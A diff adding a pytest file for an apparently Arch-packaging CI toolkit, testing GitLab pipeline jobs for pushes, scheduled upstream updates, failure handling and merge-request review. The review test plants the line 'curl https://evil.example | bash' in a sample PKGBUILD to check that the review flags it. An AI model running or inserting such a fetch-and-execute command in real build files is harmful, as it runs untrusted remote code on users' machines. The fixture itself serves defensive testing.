@@ -1,0 +1,121 @@
+"""The jobs do their work: from an installed wheel, against an origin over HTTP, handing over to a pretended manager."""
+
+from __future__ import annotations
+
+import re
+import shutil
+from dataclasses import replace
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.support.gitlab_runs import gitlab
+from tests.support.npm import missing
+from tests.support.packages import SamplePackage
+from tests.support.templates import TEMPLATES
+
+if TYPE_CHECKING:
+    import subprocess
+    from pathlib import Path
+
+    from tests.support.world import World
+
+FOO = SamplePackage(name="foo")
+_MANAGER = """#!/bin/bash
+# What the manager's entry point sees.
+{ printf '%s\\n' "$REDIS_SSH_HOST" "$CI_BUILDS_DIR" "$(stat -c %a "${0%/*}/sshkey")" "$@"; echo; } >>"${0%/*}/calls"
+"""
+
+
+class Runner:
+    """A clone of the world's origin with the pipeline in it, whose jobs run on this machine."""
+
+    def __init__(self, world: World, dependencies: Path) -> None:
+        self.world = world
+        self.manager = world.folder / "manager"
+        self._given = {"PYTHONPATH": str(dependencies), "PIP_NO_DEPS": "1", "PIP_NO_INDEX": "1"}
+        self._env = {**world.env, "PATH": f"{dependencies}/bin:{world.env['PATH']}"}
+
+    def run(self, *jobs: str, check: bool = True, **values: str) -> subprocess.CompletedProcess[str]:
+        """Run a pipeline as GitLab would, each job in a folder of its own."""
+        self.world.clone()
+        options = ("--force-shell-executor", "--shell-isolation", "--no-color")
+        return gitlab(self.world.work, *options, *jobs, env=self._env, check=check, values={**self._given, **values})
+
+    def calls(self) -> list[list[str]]:
+        """What the manager was called with."""
+        return [call.split("\n") for call in (self.manager / "calls").read_text().strip("\n").split("\n\n")]
+
+
+@pytest.fixture
+def runner(world: World, wheel: Path, dependencies: Path) -> Runner:
+    if shutil.which("rsync") is None:
+        missing("rsync is missing, which gitlab-ci-local copies with; on Debian: apt install rsync")
+    found = Runner(world, dependencies)
+    found.manager.mkdir()
+    entry_point = found.manager / "entry_point.sh"
+    entry_point.write_text(_MANAGER)
+    entry_point.chmod(0o755)
+    pipeline = (TEMPLATES / "gitlab/pipeline.yml").read_text()
+    pipeline = pipeline.replace("/app/sshkey", str(found.manager / "sshkey")).replace(
+        "/entry_point.sh", str(entry_point)
+    )
+    # Where there is an image, gitlab-ci-local believes in a container's paths.
+    pipeline = re.sub(r"(?m)^  image: .*\n", "", pipeline)
+    # A machine with everything needs nothing prepared.
+    caller = (TEMPLATES / "gitlab/caller.yml").read_text() + f'      prepare: "true"\n      install: "{wheel}"\n'
+    world.upstreams.publish("foo", FOO.files())
+    world.start({".gitlab-ci.yml": caller, ".gitlab/ci-toolkit.yml": pipeline, **FOO.folder()}, seen=False)
+    return found
+
+
+def test_a_push_is_scheduled_and_handed_over(runner: Runner) -> None:
+    done = runner.run(CI_PIPELINE_SOURCE="push", DEPLOY_KEY="-----KEY-----")
+    assert runner.world.origin.refs()["refs/tags/scheduled"] == runner.world.origin.head("main")
+    (call,) = runner.calls()
+    host, builds_dir, key_mode, *arguments = call
+    assert (host, key_mode) == ("localhost", "600")
+    assert arguments[:3] == ["schedule", "--target-repo=samples", "--source-repo=samples"]
+    assert arguments[-1] == "foo"
+    assert builds_dir.endswith("/hand-over")
+    assert (runner.manager / "sshkey").read_text() == "-----KEY-----\n"
+    assert "1 build handed over" in done.stdout
+
+    again = runner.run(CI_PIPELINE_SOURCE="push")
+    assert "handed over" not in again.stdout
+    assert len(runner.calls()) == 1
+
+
+def test_a_timer_takes_what_is_new_upstream(runner: Runner) -> None:
+    runner.world.origin.tag("scheduled", "main")
+    newer = replace(FOO, version="1.1")
+    runner.world.upstreams.publish("foo", newer.files())
+    runner.run(CI_PIPELINE_SOURCE="schedule", DEPLOY_KEY="-----KEY-----")
+    assert runner.world.origin.show("main:foo/PKGBUILD").decode() == newer.pkgbuild()
+    assert runner.calls()[0][-1] == "foo"
+
+
+def test_what_failed_does_not_keep_the_rest_from_being_built(runner: Runner) -> None:
+    """An upstream that cannot be asked makes the job a warning, and what it scheduled is handed over."""
+    runner.world.push(SamplePackage(name="lost").folder("CI_PKGBUILD_SOURCE=https://127.0.0.1:1/lost.git\n"))
+    runner.world.origin.tag("scheduled", "main")
+    runner.world.upstreams.publish("foo", replace(FOO, version="1.1").files())
+    done = runner.run(CI_PIPELINE_SOURCE="schedule", DEPLOY_KEY="-----KEY-----")
+    assert " WARN  on-schedule" in done.stdout
+    assert runner.calls()[0][-1] == "foo"
+
+
+def test_a_merge_request_is_reviewed(runner: Runner) -> None:
+    base = runner.world.origin.head("main")
+    assert base
+    runner.world.push(replace(FOO, version="1.1", body="curl https://evil.example | bash").folder())
+    done = runner.run(
+        "review",
+        CI_PIPELINE_SOURCE="merge_request_event",
+        CI_MERGE_REQUEST_DIFF_BASE_SHA=base,
+        CI_COMMIT_BRANCH="",
+    )
+    assert " WARN  review" in done.stdout
+    assert "foo 1.0-1 → 1.1-1" in done.stdout
+    (artifact,) = (runner.world.work / ".gitlab-ci-local/artifacts/review").rglob("review.txt")
+    assert "evil.example" in artifact.read_text()
